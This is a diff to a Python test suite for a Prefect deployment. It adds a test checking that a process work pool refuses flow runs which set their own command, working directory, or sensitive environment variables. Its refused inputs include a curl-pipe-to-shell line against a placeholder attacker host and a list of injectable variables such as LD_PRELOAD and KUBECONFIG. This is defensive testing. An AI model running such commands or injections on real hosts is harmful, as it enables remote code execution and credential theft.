@@ -18,7 +18,7 @@ import yaml
 from prefect.client.schemas.actions import WorkPoolCreate
 from prefect.exceptions import PrefectHTTPStatusError
 
-from flows.workpool import COMMAND, FIXED, render_pool_template
+from flows.workpool import COMMAND, FIXED, render_pool_template, render_process_template
 from tests.kubepool.pool import prefect_client
 from tests.webhook.servers import PrefectServer
 
@@ -119,3 +119,42 @@ def test_the_worker_image_is_the_locked_prefect_version() -> None:
     )
     assert locked is not None
     assert container["image"] == f"prefecthq/prefect:{locked[1]}-python3.11-kubernetes"
+
+
+def test_the_process_pool_runs_only_what_its_worker_starts(prefect: PrefectServer) -> None:
+    """The process worker runs on a host with the cluster's credentials: a run may not set
+    its command or working directory, nor an environment variable outside the flow's own
+    settings (LD_PRELOAD, PYTHONPATH, KUBECONFIG, PATH, the key files)."""
+    pool = f"handoff-process-fixed-{uuid.uuid4().hex[:6]}"
+    refused_variables: list[dict[str, Any]] = [
+        {"command": "sh -c 'curl evil.example | sh'"},
+        {"working_dir": "/root"},
+        *(
+            {"env": {name: "/tmp/x"}}
+            for name in (
+                "LD_PRELOAD",
+                "PYTHONPATH",
+                "KUBECONFIG",
+                "PATH",
+                "PREFECT_API_URL",
+                "HANDOFF_EVENT_PUBLIC_KEY_FILE",
+                "HANDOFF_SIGNING_KEY_FILE",
+            )
+        ),
+    ]
+    with prefect_client(prefect.api_url) as client:
+        client.create_work_pool(
+            WorkPoolCreate(name=pool, type="process", base_job_template=render_process_template())
+        )
+        flow_id = client.create_flow_from_name("handoff")
+        deployment = client.create_deployment(flow_id, pool, work_pool_name=pool)
+        for variables in refused_variables:
+            with pytest.raises(PrefectHTTPStatusError) as refused:
+                run = client.create_flow_run_from_deployment(deployment, job_variables=variables)
+                pytest.fail(f"a flow run setting {variables} was accepted: {run.id}")
+            assert refused.value.response.status_code == 422, variables
+        allowed = {"env": {"HANDOFF_LEASE_S": "30", "HANDOFF_POD_ACCESS": "port-forward"}}
+        run = client.create_flow_run_from_deployment(deployment, job_variables=allowed)
+        assert run.job_variables == allowed
+        client.delete_deployment(deployment)
+        client.delete_work_pool(pool)
